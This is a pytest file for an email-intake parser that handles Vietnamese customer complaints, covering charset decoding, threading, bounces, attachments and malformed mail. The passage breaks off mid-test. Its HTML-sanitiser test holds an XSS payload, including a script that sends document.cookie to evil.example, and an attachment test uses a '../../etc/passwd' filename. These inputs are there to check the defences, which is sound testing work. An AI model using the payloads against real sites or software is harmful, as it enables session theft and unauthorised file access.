"""The inbound mail parser (intake/mail_message.py) on hand-written messages and on issue 14's corpus."""

import base64
import random
import re
import time
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from config.settings import Settings
from intake.mail_message import (
    DEFAULT_MAX_BYTES,
    MailKind,
    MailMessage,
    decode_bytes,
    decode_header_value,
    parse_mail,
    parse_with_settings,
    trim_quoted,
)
from tests.mail_corpus import (
    EXPECTED,
    SUBJECTS,
    b_word,
    corpus,
    new_complaints,
    our_message_id,
    q_word,
    to_cp1258,
)

DOMAIN = "luarong.vn"
US = "cskh@luarong.vn"
VIETNAMESE = "Khiếu nại về hoá đơn: dịch vụ quá tệ, đề nghị hoàn tiền"


def mail(headers: dict[str, str | bytes], body: bytes | str = b"Xin chao\r\n") -> bytes:
    head = b"".join(
        name.encode() + b": " + (value if isinstance(value, bytes) else value.encode()) + b"\r\n"
        for name, value in headers.items()
    )
    return head + b"\r\n" + (body if isinstance(body, bytes) else body.encode())


def base(**extra: str | bytes) -> dict[str, str | bytes]:
    headers: dict[str, str | bytes] = {
        "From": "Khach Hang <khach@example.com>",
        "To": US,
        "Subject": "Khieu nai",
        "Date": "Mon, 30 Nov 2026 09:00:00 +0700",
        "Message-ID": "<abc.1@example.com>",
    }
    for name, value in extra.items():
        key = name.replace("_", "-")
        if value == "":
            headers.pop(key, None)
        else:
            headers[key] = value
    return headers


def parse(raw: bytes, **kwargs: object) -> MailMessage:
    return parse_mail(raw, mail_domain=DOMAIN, our_addresses=[US], **kwargs)  # type: ignore[arg-type]


# --- the intake key -----------------------------------------------------------------------


def test_the_message_id_is_the_intake_key() -> None:
    parsed = parse(mail(base(Message_ID="  <Abc.1@Example.com>  ")))
    assert parsed.intake_key == parsed.message_id == "<Abc.1@Example.com>"


def test_a_message_without_message_id_is_keyed_by_its_content_whatever_the_line_endings() -> None:
    crlf = mail(base(Message_ID=""), "Nội dung khiếu nại\r\ndòng hai\r\n")
    first = parse(crlf)
    assert first.message_id is None
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", first.intake_key)
    assert parse(crlf.replace(b"\r\n", b"\n")).intake_key == first.intake_key  # IMAP or SMTP, same key
    assert parse(crlf.replace("dòng hai".encode(), "dòng ba".encode())).intake_key != first.intake_key


# --- headers ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoded",
    [
        q_word(VIETNAMESE),
        b_word(VIETNAMESE),
        q_word(VIETNAMESE, "windows-1258"),
        b_word(VIETNAMESE, "windows-1258"),
        VIETNAMESE.encode(),  # RFC 6532: raw UTF-8 in the header
        to_cp1258(VIETNAMESE),  # raw windows-1258 bytes, unlabelled, as old clients send
        b"=?UTF-8?q?" + q_word(VIETNAMESE)[10:],  # charset and encoding letters in any case
    ],
    ids=["utf8-q", "utf8-b", "cp1258-q", "cp1258-b", "utf8-raw", "cp1258-raw", "case"],
)
def test_vietnamese_subjects_decode_in_every_common_encoding(encoded: bytes) -> None:
    assert parse(mail(base(Subject=encoded))).subject == VIETNAMESE


def test_windows_1258_really_is_combining_marks_and_still_reads_as_composed_vietnamese() -> None:
    raw = to_cp1258("ệ")
    assert len(raw) == 2  # ê plus a combining dot below: the case a naive decode gets wrong
    assert decode_bytes(raw, "windows-1258") == "ệ"


def test_a_multibyte_character_split_across_two_encoded_words_is_joined() -> None:
    data = "Nguyễn".encode()
    first, second = base64.b64encode(data[:5]).decode(), base64.b64encode(data[5:]).decode()
    assert decode_header_value(f"=?utf-8?B?{first}?= =?utf-8?B?{second}?=") == "Nguyễn"


def test_whitespace_between_encoded_words_is_dropped_but_kept_around_plain_words() -> None:
    assert decode_header_value("=?utf-8?Q?Xin?= =?utf-8?Q?_ch=C3=A0o?= anh Nam") == "Xin chào anh Nam"


@pytest.mark.parametrize(
    ("data", "label", "expected"),
    [
        ("Xin chào, tôi khiếu nại".encode(), "iso-8859-1", "Xin chào, tôi khiếu nại"),  # UTF-8 labelled Latin-1
        (to_cp1258("Hoá đơn tháng mười một"), "iso-8859-1", "Hoá đơn tháng mười một"),  # cp1258 labelled Latin-1
        (to_cp1258("Nhân viên thiếu lịch sự"), None, "Nhân viên thiếu lịch sự"),  # no label at all
        ("Très déçu, Ça ne marche pas".encode("latin-1"), "iso-8859-1", "Très déçu, Ça ne marche pas"),
        ("Não funciona, está errado".encode("latin-1"), "iso-8859-1", "Não funciona, está errado"),
        (b"Ti\xaang Vi\xaet: khi\xaau n\xd5i \xd0\xe0 N\xc7ng", "VISCII", "Tiếng Việt: khiếu nại Đà Nẵng"),
        (b"\x02\x05\x06\x14\x19\x1e", "viscii", "ẲẴẪỶỸỴ"),  # VISCII's letters in C0 positions
        ("Xin chào".encode(), "x-no-such-charset", "Xin chào"),  # a charset nobody knows
        ("Khiếu nại".encode("utf-7"), "utf-7", "Khiếu nại"),
        ("Xin chào".encode(), "quopri", "Xin chào"),  # codecs that are not charsets are never used
        ("Xin chào".encode(), "zlib", "Xin chào"),
        ("Xin chào".encode(), "rot13", "Xin chào"),
        ("Très déçu".encode("latin-1"), "utf-8", "Très déçu"),  # labelled UTF-8, is Latin-1
        ("Khiếu nại về dịch vụ lắp đặt".encode() + b"\xff", "utf-8", "Khiếu nại về dịch vụ lắp đặt\ufffd"),
        ("Đà Nẵng".encode(), "utf8", "Đà Nẵng"),
        ("Tiếng Việt".encode("utf-16"), "utf-16", "Tiếng Việt"),
        (to_cp1258("Khiếu nại"), "utf-8", "Khiếu nại"),  # labelled UTF-8, is not
    ],
)
def test_bodies_decode_under_right_wrong_and_missing_labels(data: bytes, label: str | None, expected: str) -> None:
    assert decode_bytes(data, label) == expected


def test_decoded_text_never_carries_nul_or_lone_surrogates() -> None:
    text = decode_bytes(b"abc\x00def\xff", "utf-8")
    assert "\x00" not in text
    text.encode("utf-8")  # storable as is


def test_addresses_dates_and_threading_headers_are_read() -> None:
    raw = mail(
        base(
            From=b_word("Nguyễn Văn An") + b" <An.Nguyen@Gmail.COM>",
            To='"Lửa Rồng, CSKH" <cskh@luarong.vn>, =?utf-8?Q?Tr=E1=BA=A7n_B?= <b@example.vn>'.encode(),
            Cc="c@example.vn",
            Reply_To="reply@example.vn",
            Date="Mon, 30 Nov 2026 09:15:00 +0700",
            In_Reply_To="<x@example.com>",
            References="<a@example.com>\r\n <b@example.com> <x@example.com>",
        )
    )
    parsed = parse(raw)
    assert parsed.sender is not None
    assert (parsed.sender.name, parsed.sender.address) == ("Nguyễn Văn An", "An.Nguyen@gmail.com")
    assert [(a.name, a.address) for a in parsed.to] == [("Lửa Rồng, CSKH", US), ("Trần B", "b@example.vn")]
    assert [a.address for a in parsed.cc] == ["c@example.vn"]
    assert [a.address for a in parsed.reply_to] == ["reply@example.vn"]
    assert parsed.date == datetime(2026, 11, 30, 9, 15, tzinfo=timezone(timedelta(hours=7)))
    assert parsed.in_reply_to == ["<x@example.com>"]
    assert parsed.references == ["<a@example.com>", "<b@example.com>", "<x@example.com>"]


def test_a_damaged_encoded_word_costs_that_word_not_the_message() -> None:
    parsed = parse(mail(base(Subject="=?utf-8?B?Q?= =?utf-8?B?xin=@@?= =?utf-8?Q?ch=C3=A0o?= =?utf-8?Q?=ZZ?=")))
    assert not parsed.unreadable
    assert "chào" in parsed.subject


def test_a_broken_date_is_none_and_a_date_without_zone_is_utc() -> None:
    assert parse(mail(base(Date="yesterday, around noon"))).date is None
    assert parse(mail(base(Date="Mon, 30 Nov 2026 09:00:00 -0000"))).date == datetime(2026, 11, 30, 9, tzinfo=UTC)


# --- bodies -------------------------------------------------------------------------------

XSS = (
    '<html><head><script>alert("head")</script><style>p{}</style></head><body>'
    '<p onclick="steal()">Máy giặt <b>hỏng</b> sau 3 ngày.</p>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">bấm</a>'
    '<a href="https://shop.example.vn/don/123">đơn hàng</a>'
    '<iframe src="https://evil.example/"></iframe></body></html>'
)


def multipart(subtype: str, parts: list[bytes], boundary: str = "BOUNDARY") -> tuple[str, bytes]:
    body = b"".join(b"--" + boundary.encode() + b"\r\n" + part + b"\r\n" for part in parts)
    return f'multipart/{subtype}; boundary="{boundary}"', body + b"--" + boundary.encode() + b"--\r\n"


def part(content_type: str, body: bytes, *extra: str, encoding: str = "8bit") -> bytes:
    headers = [f"Content-Type: {content_type}", f"Content-Transfer-Encoding: {encoding}", *extra]
    return ("\r\n".join(headers) + "\r\n\r\n").encode() + body


def test_text_is_preferred_over_html_in_an_alternative() -> None:
    ctype, body = multipart(
        "alternative",
        [
            part("text/plain; charset=utf-8", "Bản văn bản".encode()),
            part("text/html; charset=utf-8", b"<p>HTML version</p>"),
        ],
    )
    parsed = parse(mail(base(Content_Type=ctype), body))
    assert parsed.text == "Bản văn bản"
    assert not parsed.body_from_html
    assert parsed.html == "<p>HTML version</p>"  # kept, sanitised, for display


def test_html_only_becomes_text_and_is_sanitised_for_display() -> None:
    parsed = parse(mail(base(Content_Type="text/html; charset=utf-8"), XSS.encode()))
    assert parsed.body_from_html
    assert "Máy giặt hỏng sau 3 ngày." in parsed.text
    assert "https://shop.example.vn/don/123" in parsed.text  # a link's target is kept in the text
    assert "alert" not in parsed.text and "document.cookie" not in parsed.text and "p{}" not in parsed.text
    assert parsed.html is not None
    for payload in ("<script", "onerror", "onclick", "javascript:", "<iframe", "alert", "<img", "<style"):
        assert payload not in parsed.html.lower()
    assert "<b>hỏng</b>" in parsed.html
    assert 'rel="noopener noreferrer"' in parsed.html


def test_an_empty_text_part_falls_back_to_the_html() -> None:
    ctype, body = multipart(
        "alternative", [part("text/plain; charset=utf-8", b"  \r\n"), part("text/html", b"<p>Only here</p>")]
    )
    parsed = parse(mail(base(Content_Type=ctype), body))
    assert (parsed.text, parsed.body_from_html) == ("Only here", True)


def test_html_blockquotes_become_quoted_lines_that_are_trimmed() -> None:
    html = (
        "<div>Tôi vẫn chưa nhận được tiền.</div><div class=gmail_quote>"
        "<div>Vào Th 2, 30 thg 11, 2026 CSKH &lt;cskh@luarong.vn&gt; đã viết:</div>"
        "<blockquote>Chúng tôi đã tiếp nhận</blockquote></div>"
    )
    parsed = parse(mail(base(Content_Type="text/html; charset=utf-8"), html.encode()))
    assert "> Chúng tôi đã tiếp nhận" in parsed.text
    assert parsed.display_text == "Tôi vẫn chưa nhận được tiền."


def test_format_flowed_paragraphs_are_joined_back() -> None:
    body = "Tôi đã gọi tổng đài ba lần \r\nnhưng không ai nghe máy.\r\n\r\n-- \r\nAn\r\n"
    raw = mail(base(Content_Type="text/plain; charset=utf-8; format=flowed"), body.encode())
    parsed = parse(raw)
    assert parsed.text == "Tôi đã gọi tổng đài ba lần nhưng không ai nghe máy.\n\n-- \nAn"
    assert parsed.display_text == "Tôi đã gọi tổng đài ba lần nhưng không ai nghe máy."
    delsp = mail(base(Content_Type="text/plain; format=flowed; delsp=yes"), b"Khi\xc3\xaa \r\nu n\xe1\xba\xa1i\r\n")
    assert parse(delsp).text == "Khiêu nại"
    fixed = mail(base(Content_Type="text/plain; charset=utf-8"), "dòng một \r\ndòng hai".encode())
    assert parse(fixed).text == "dòng một \ndòng hai"  # not flowed: line breaks are the writer's


def test_transfer_encodings_are_undone() -> None:
    text = "Điện thoại của tôi: 0903 123 456"
    for encoding, data in [
        ("base64", base64.encodebytes(text.encode())),
        ("quoted-printable", b"=C4=90i=E1=BB=87n tho=E1=BA=A1i c=E1=BB=A7a t=C3=B4i: 0903 =\r\n123 456"),
    ]:
        raw = mail(base(Content_Type="text/plain; charset=utf-8", Content_Transfer_Encoding=encoding), data)
        assert parse(raw).text == text


# --- trimming -----------------------------------------------------------------------------

NEW = "Tôi vẫn chưa nhận được phản hồi.\nĐề nghị xử lý gấp."


@pytest.mark.parametrize(
    "history",
    [
        "On Mon, 30 Nov 2026 at 08:00, Lua Rong CSKH <cskh@luarong.vn> wrote:\n> Chúng tôi đã tiếp nhận\n> khiếu nại",
        "On Mon, 30 Nov 2026 at 08:00, Lua Rong CSKH <\ncskh@luarong.vn> wrote:\n\n> Chúng tôi đã tiếp nhận",
        "Vào Th 2, 30 thg 11, 2026 vào lúc 08:00 Lửa Rồng CSKH <cskh@luarong.vn> đã viết:\n> Chúng tôi đã tiếp nhận",
        "> Chúng tôi đã tiếp nhận\n>> và sẽ trả lời",
        "________________________________\nFrom: Lửa Rồng CSKH <cskh@luarong.vn>\nSent: Monday, November 30, 2026"
        "\nTo: khach@example.com\nSubject: Xác nhận\n\nChúng tôi đã tiếp nhận",
        "Từ: Lửa Rồng CSKH <cskh@luarong.vn>\nĐã gửi: Thứ Hai, 30 tháng 11, 2026\nĐến: khach@example.com\n\nNội dung",
        "-----Original Message-----\nFrom: cskh@luarong.vn\nChúng tôi đã tiếp nhận",
        "-- \nNguyễn Văn An\nGiám đốc, Công ty ABC\n0903 123 456",
        "--\nNguyễn Văn An",
    ],
    ids=["on-wrote", "on-wrote-wrapped", "vao-da-viet", "quoted", "outlook", "outlook-vi", "original", "sig", "sig-2"],
)
def test_quoted_history_and_signatures_are_trimmed_for_display_and_kept_in_full(history: str) -> None:
    body = f"{NEW}\n\n{history}\n"
    parsed = parse(mail(base(Content_Type="text/plain; charset=utf-8"), body.encode()))
    assert parsed.display_text == NEW
    assert parsed.text == body.strip()


@pytest.mark.parametrize(
    "marker",
    [
        "---------- Forwarded message ---------",
        "---------- Thư được chuyển tiếp ----------",
        "Begin forwarded message:",
    ],
)
def test_a_forwarded_message_is_content_not_history(marker: str) -> None:
    text = f"Tôi chuyển tiếp thư của cửa hàng.\n\n{marker}\nFrom: Shop <shop@example.vn>\nDate: Mon, 2 Nov 2026\n"
    text += "Subject: Đơn hàng\nTo: khach@example.com\n\nĐơn hàng của bạn bị huỷ."
    assert trim_quoted(text) == text


def test_interleaved_answers_keep_the_customers_lines() -> None:
    text = "> Quý khách mua ở đâu?\nỞ chi nhánh Huế.\n> Ngày nào?\nNgày 3/11."
    assert trim_quoted(text) == "Ở chi nhánh Huế.\nNgày 3/11."


def test_a_message_that_is_all_quote_shows_everything_rather_than_nothing() -> None:
    assert trim_quoted("> chỉ có trích dẫn\n> thôi") == "> chỉ có trích dẫn\n> thôi"


def test_a_line_that_merely_mentions_from_is_not_an_outlook_block() -> None:
    text = "From: tôi gửi từ hôm qua nhưng chưa ai trả lời.\nXin hãy kiểm tra."
    assert trim_quoted(text) == text


# --- attachments --------------------------------------------------------------------------


def test_attachments_keep_name_declared_type_size_and_bytes() -> None:
    pdf = b"%PDF-1.4\n" + bytes(range(256)) * 40
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
    ctype, body = multipart(
        "mixed",
        [
            part("text/plain; charset=utf-8", "Xem tệp đính kèm".encode()),
            part(
                "application/pdf",
                base64.encodebytes(pdf),
                "Content-Disposition: attachment; filename*=utf-8''Ho%C3%A1%20%C4%91%C6%A1n.pdf",
                encoding="base64",
            ),
            part(
                'image/png; name="=?utf-8?B?' + base64.b64encode("ảnh chụp.png".encode()).decode() + '?="',
                base64.encodebytes(png),
                "Content-Disposition: inline",
                "Content-ID: <img1@example.com>",
                encoding="base64",
            ),
            part(
                "application/octet-stream",
                base64.encodebytes(b"MZ"),
                'Content-Disposition: attachment; filename="../../etc/passwd"',
                encoding="base64",
            ),
            part("image/jpeg", base64.encodebytes(b"\xff\xd8\xff"), encoding="base64"),
        ],
    )
    parsed = parse(mail(base(Content_Type=ctype), body))
    assert parsed.text == "Xem tệp đính kèm"
    got = [(a.filename, a.content_type, a.size, a.data, a.inline) for a in parsed.attachments]
    assert got == [
        ("Hoá đơn.pdf", "application/pdf", len(pdf), pdf, False),
        ("ảnh chụp.png", "image/png", len(png), png, True),
        ("passwd", "application/octet-stream", 2, b"MZ", False),  # never a path
        ("attachment-4.jpg", "image/jpeg", 3, b"\xff\xd8\xff", False),
    ]
    assert parsed.attachments[1].content_id == "<img1@example.com>"


def test_a_text_file_attached_is_an_attachment_not_the_body() -> None:
    ctype, body = multipart(
        "mixed",
        [
            part("text/plain; charset=utf-8", "Nội dung".encode()),
            part("text/plain", b"log line", 'Content-Disposition: attachment; filename="log.txt"'),
        ],
    )
    parsed = parse(mail(base(Content_Type=ctype), body))
    assert parsed.text == "Nội dung"
    assert [a.filename for a in parsed.attachments] == ["log.txt"]


def test_a_forwarded_message_is_kept_as_an_eml_attachment() -> None:
    inner = mail(base(Subject="Thư gốc", Message_ID="<inner@example.com>"), "Nội dung gốc".encode())
    ctype, body = multipart("mixed", [part("text/plain", b"Chuyen tiep"), part("message/rfc822", inner)])
    parsed = parse(mail(base(Content_Type=ctype), body))
    assert parsed.kind is MailKind.NEW_COMPLAINT
    assert [(a.filename, a.content_type) for a in parsed.attachments] == [("attachment-1.eml", "message/rfc822")]
    assert b"<inner@example.com>" in parsed.attachments[0].data


# --- classification -----------------------------------------------------------------------


def test_a_plain_message_is_a_new_complaint() -> None:
    parsed = parse(mail(base()))
    assert (parsed.kind, parsed.complaint_id, parsed.unreadable) == (MailKind.NEW_COMPLAINT, None, False)


def test_a_reply_threads_by_in_reply_to_our_message_id() -> None:
    parsed = parse(mail(base(In_Reply_To=our_message_id("KN-7F3K9Q", DOMAIN, 3, "reply"))))
    assert (parsed.kind, parsed.complaint_id, parsed.reason) == (MailKind.REPLY, "KN-7F3K9Q", "in_reply_to")


def test_a_reply_threads_by_references_alone() -> None:
    refs = f"<first@gmail.com> {our_message_id('KN-ABCDEF', DOMAIN)} <later@gmail.com>"
    parsed = parse(mail(base(References=refs, In_Reply_To="<later@gmail.com>")))
    assert (parsed.kind, parsed.complaint_id, parsed.reason) == (MailKind.REPLY, "KN-ABCDEF", "references")


@pytest.mark.parametrize("subject", ["Re: [KN-7F3K9Q] Xác nhận", "Trả lời: [ kn-7f3k9q ] thêm thông tin"])
def test_a_reply_threads_by_the_complaint_id_in_the_subject(subject: str) -> None:
    parsed = parse(mail(base(Subject=q_word(subject))))
    assert (parsed.kind, parsed.complaint_id, parsed.reason) == (MailKind.REPLY, "KN-7F3K9Q", "subject_tag")


@pytest.mark.parametrize(
    "headers",
    [
        {"In_Reply_To": "<KN-7F3K9Q.1.acknowledgement@other.example>"},  # someone else's domain
        {"In_Reply_To": "<KN-7F3K9O.1.acknowledgement@luarong.vn>"},  # O is not in our alphabet
        {"Subject": "Về khiếu nại KN-7F3K9Q hôm trước"},  # an id without the brackets is just text
        {"Subject": "[KN-7F3K9I] sai mã"},
    ],
)
def test_what_only_looks_like_ours_does_not_thread(headers: dict[str, str]) -> None:
    assert parse(mail(base(**headers))).kind is MailKind.NEW_COMPLAINT


@pytest.mark.parametrize(
    ("headers", "reason"),
    [
        ({"Auto_Submitted": "auto-replied"}, "auto_submitted"),
        ({"Auto_Submitted": "auto-generated; owner-email=x@example.com"}, "auto_submitted"),
        ({"Precedence": "bulk"}, "precedence"),
        ({"Precedence": "Junk"}, "precedence"),
        ({"Precedence": "list"}, "precedence"),
        ({"List_Id": "Khach hang <kh.lists.example.vn>"}, "list_id"),
        ({"X_Autoreply": "yes"}, "x-autoreply"),
        ({"X_Autorespond": "Khieu nai"}, "x-autorespond"),
        ({"Subject": "Automatic reply: Khieu nai"}, "vacation_subject"),
        ({"Subject": q_word("Trả lời tự động: Khiếu nại")}, "vacation_subject"),
        (
            {"Content_Type": 'multipart/report; report-type=disposition-notification; boundary="x"'},
            "read_receipt",
        ),
    ],
)
def test_auto_replies_never_make_complaints(headers: dict[str, str | bytes], reason: str) -> None:
    parsed = parse(mail(base(**headers)))
    assert (parsed.kind, parsed.reason) == (MailKind.AUTO_REPLY, reason)


def test_auto_submitted_no_is_a_person() -> None:
    assert parse(mail(base(Auto_Submitted="no"))).kind is MailKind.NEW_COMPLAINT


def test_outlooks_auto_response_suppress_is_on_ordinary_mail_and_means_nothing_here() -> None:
    assert parse(mail(base(X_Auto_Response_Suppress="All", Precedence="normal"))).kind is MailKind.NEW_COMPLAINT


def test_an_out_of_office_answer_to_our_mail_is_noise_not_a_customer_message() -> None:
    raw = mail(base(Auto_Submitted="auto-replied", In_Reply_To=our_message_id("KN-7F3K9Q", DOMAIN)))
    assert parse(raw).kind is MailKind.AUTO_REPLY


def dsn(enclosed: bytes, enclosed_type: str, action: str = "failed", status: str = "5.1.1") -> bytes:
    ctype, body = multipart(
        "report",
        [
            part("text/plain", b"Your message could not be delivered."),
            part(
                "message/delivery-status",
                (
                    "Reporting-MTA: dns; mx.example.vn\r\n\r\n"
                    "Final-Recipient: rfc822; nobody@example.vn\r\n"
                    f"Action: {action}\r\nStatus: {status}\r\n"
                    "Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.vn>: User unknown\r\n"
                ).encode(),
            ),
            part(enclosed_type, enclosed),
        ],
    )
    ctype += "; report-type=delivery-status"
    return mail(
        base(
            From="Mail Delivery System <MAILER-DAEMON@mx.example.vn>", Content_Type=ctype, Auto_Submitted="auto-replied"
        ),
        body,
    )


ORIGINAL = mail(
    base(From=f"CSKH <{US}>", To="nobody@example.vn", Message_ID=our_message_id("KN-7F3K9Q", DOMAIN)),
    "Chúng tôi đã tiếp nhận".encode(),
)


@pytest.mark.parametrize(
    ("enclosed", "enclosed_type"),
    [(ORIGINAL, "message/rfc822"), (ORIGINAL.split(b"\r\n\r\n")[0] + b"\r\n", "text/rfc822-headers")],
    ids=["rfc822", "rfc822-headers"],
)
def test_a_dsn_names_our_message_and_why(enclosed: bytes, enclosed_type: str) -> None:
    parsed = parse(dsn(enclosed, enclosed_type))
    assert parsed.kind is MailKind.BOUNCE
    assert parsed.bounce is not None
    assert parsed.bounce.original_message_id == our_message_id("KN-7F3K9Q", DOMAIN)
    assert (parsed.bounce.action, parsed.bounce.status, parsed.bounce.failed) == ("failed", "5.1.1", True)
    assert parsed.bounce.recipient == "nobody@example.vn"
    assert parsed.bounce.reason == "550 5.1.1 <nobody@example.vn>: User unknown"
    assert parsed.attachments == []  # the returned original is not a customer's attachment


def test_a_delay_notice_is_noise_but_not_a_failure() -> None:
    parsed = parse(dsn(ORIGINAL, "message/rfc822", action="delayed", status="4.4.7"))
    assert parsed.kind is MailKind.BOUNCE
    assert parsed.bounce is not None and not parsed.bounce.failed


def test_a_mailer_daemon_bounce_without_a_report_still_finds_our_message_id() -> None:
    body = b"I'm afraid I wasn't able to deliver your message.\r\n<x@example.vn>:\r\nmailbox full (#5.2.2)\r\n\r\n"
    parsed = parse(mail(base(From="MAILER-DAEMON@mx.example.vn", Subject="failure notice"), body + ORIGINAL))
    assert parsed.kind is MailKind.BOUNCE
    assert parsed.bounce is not None
    assert parsed.bounce.original_message_id == our_message_id("KN-7F3K9Q", DOMAIN)
    assert (parsed.bounce.status, parsed.bounce.reason) == ("5.2.2", "mailbox full (#5.2.2)")


def test_a_bounce_from_postmaster_is_a_bounce_even_when_it_threads() -> None:
    raw = mail(base(From="postmaster@example.vn", In_Reply_To=our_message_id("KN-7F3K9Q", DOMAIN)))
    assert parse(raw).kind is MailKind.BOUNCE


@pytest.mark.parametrize(
    "headers",
    [
        {"From": f"Lửa Rồng CSKH <{US.upper()}>".encode()},
        {"Message_ID": our_message_id("KN-7F3K9Q", DOMAIN)},
        {"Message_ID": "<anything@LUARONG.VN>"},
    ],
)
def test_our_own_mail_coming_back_is_the_loop_guard(headers: dict[str, str | bytes]) -> None:
    assert parse(mail(base(**headers))).kind is MailKind.OWN


def test_the_settings_give_our_domain_address_and_limit() -> None:
    config = Settings(mail_from="CSKH <cskh@example.vn>", mail_domain="example.vn")
    assert parse_with_settings(mail(base(From="cskh@example.vn")), config).kind is MailKind.OWN
    raw = mail(base(In_Reply_To=our_message_id("KN-7F3K9Q", "example.vn")))
    assert parse_with_settings(raw, config).complaint_id == "KN-7F3K9Q"
    assert parse_with_settings(mail(base(In_Reply_To=our_message_id("KN-7F3K9Q", DOMAIN))), config).kind is (
        MailKind.NEW_COMPLAINT
    )


def test_an_oversized_message_is_refused_from_its_headers_alone() -> None:
    raw = mail(base(In_Reply_To=our_message_id("KN-7F3K9Q", DOMAIN)), b"x" * 2000)
    parsed = parse(raw, max_bytes=1000)
    assert (parsed.kind, parsed.complaint_id, parsed.size) == (MailKind.OVERSIZED, "KN-7F3K9Q", len(raw))
    assert parsed.sender is not None and parsed.sender.address == "khach@example.com"  # whom to tell why
    assert parsed.text == "" and parsed.attachments == []
    assert parse(raw, max_bytes=len(raw)).kind is MailKind.REPLY  # the limit itself is allowed


def test_an_oversized_auto_reply_is_still_noise_so_we_never_answer_it() -> None:
    assert parse(mail(base(Precedence="bulk"), b"x" * 2000), max_bytes=1000).kind is MailKind.AUTO_REPLY


def test_a_huge_message_over_the_default_limit_is_refused_quickly() -> None:
    blob = base64.encodebytes(b"\x00" * (DEFAULT_MAX_BYTES * 3 // 4 + 1024))
    ctype, body = multipart("mixed", [part("text/plain", b"Video"), part("video/mp4", blob, encoding="base64")], "B")
    raw = mail(base(Content_Type=ctype), body)
    assert len(raw) > DEFAULT_MAX_BYTES
    started = time.monotonic()
    parsed = parse(raw)
    assert parsed.kind is MailKind.OVERSIZED
    assert time.monotonic() - started < 5


def test_a_large_message_under_the_limit_keeps_its_attachment_whole() -> None:
    data = bytes(range(256)) * 20_000  # 5 MB
    ctype, body = multipart(
        "mixed",
        [
            part("text/plain", b"Ghi am"),
            part(
                "audio/mpeg",
                base64.encodebytes(data),
                "Content-Disposition: attachment; filename=a.mp3",
                encoding="base64",
            ),
        ],
    )
    parsed = parse(mail(base(Content_Type=ctype), body))
    assert parsed.kind is MailKind.NEW_COMPLAINT
    assert parsed.attachments[0].data == data


# --- malformed mail is kept, never raised ----------------------------------------------------


def nested(depth: int) -> bytes:
    opening = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(depth))
    leaf = "Content-Type: text/plain; charset=utf-8\r\n\r\nđáy".encode()
    closing = b"".join(b"\r\n--b%d--" % i for i in reversed(range(depth)))
    return b"From: a@example.com\r\nMessage-ID: <deep@example.com>\r\n" + opening + leaf + closing


@pytest.mark.parametrize(
    ("depth", "problem"),
    [(50, "too_deep"), (5000, "unparseable")],  # past our bound; past Python's recursion limit
)
def test_deep_nesting_is_kept_as_unreadable_not_lost(depth: int, problem: str) -> None:
    parsed = parse(nested(depth))
    assert parsed.unreadable
    assert problem in parsed.problems
    assert parsed.intake_key == "<deep@example.com>"
    assert parsed.kind is MailKind.NEW_COMPLAINT
    assert "đáy" in parsed.text  # the raw body, for a person to read


def test_moderate_nesting_is_read() -> None:
    parsed = parse(nested(10))
    assert not parsed.unreadable
    assert parsed.text == "đáy"


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\r\n\r\n",
        b"not a header line\r\nanother\r\n\r\nbody",
        b"Subject: =?utf-8?B?@@@@?= =?x-unknown?Q?=ZZ?= =?utf-8?Q?abc\r\n\r\nbody",
        b'From: "unterminated <a@b\r\nTo: ,,,,@,<>\r\nDate: 99 Foo 20x\r\n\r\n\xff\xfe\x00body',
        b"Content-Type: multipart/mixed\r\n\r\nno boundary given\r\n",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nnever closed",
        b'Content-Type: text/plain; charset="no-such-charset"\r\n\r\n\xe1\xba\xa1 b\xc3',
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64***\r\n",
        b"Content-Type: message/delivery-status\r\nContent-Transfer-Encoding: base64\r\n\r\n====\r\n",
        b"Message-ID: " + b"<" + b"x" * 5000 + b"@example.com>\r\n\r\nlong id",
        b"From: MAILER-DAEMON\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=z\r\n\r\n--z--",
        b"\x00\x01\x02\x03" * 100,
        b"Message-ID: <\xe0bc@example.com>\r\nIn-Reply-To: <\xff@x>\r\nContent-Type: text/\xe9; x=1\r\n\r\nbody",
    ],
)
def test_malformed_messages_never_raise(raw: bytes) -> None:
    parsed = parse(raw)
    assert parsed.intake_key
    assert parsed.size == len(raw)
    MailMessage.model_validate_json(parsed.model_dump_json())  # storable and passable as is


def test_a_charset_python_cannot_even_look_up_costs_only_the_charset() -> None:
    parsed = parse(mail(base(Content_Type='text/plain; charset="utf\x00-8"'), "Nội dung".encode()))
    assert not parsed.unreadable
    assert parsed.text == "Nội dung"


def test_an_overlong_message_id_falls_back_to_the_content_key() -> None:
    parsed = parse(b"Message-ID: <" + b"x" * 5000 + b"@example.com>\r\n\r\nbody")
    assert parsed.intake_key.startswith("sha256:")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000), st.sampled_from([b"", b"Content-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\n"]))
def test_any_bytes_give_a_result(noise: bytes, prefix: bytes) -> None:
    parsed = parse(prefix + noise)
    assert parsed.intake_key and parsed.kind in set(MailKind)


# --- issue 14's corpus --------------------------------------------------------------------

EXISTING = ["KN-7F3K9Q", "KN-ABCDEF", "KN-2345XY", "KN-Z9Y8XW"]


@pytest.fixture(scope="module")
def parsed_corpus() -> list[MailMessage]:
    return [parse(raw) for raw in corpus(EXISTING, DOMAIN)]


def test_the_corpus_is_deterministic() -> None:
    assert corpus(EXISTING, DOMAIN) == corpus(EXISTING, DOMAIN)
    assert corpus(EXISTING, DOMAIN) != corpus(EXISTING, DOMAIN, seed=15)


def test_the_corpus_parses_to_issue_14s_mix(parsed_corpus: list[MailMessage]) -> None:
    kinds = Counter(p.kind for p in parsed_corpus)
    assert len(parsed_corpus) == EXPECTED.messages
    assert kinds == {
        MailKind.NEW_COMPLAINT: EXPECTED.new_complaint_messages,
        MailKind.REPLY: EXPECTED.replies,
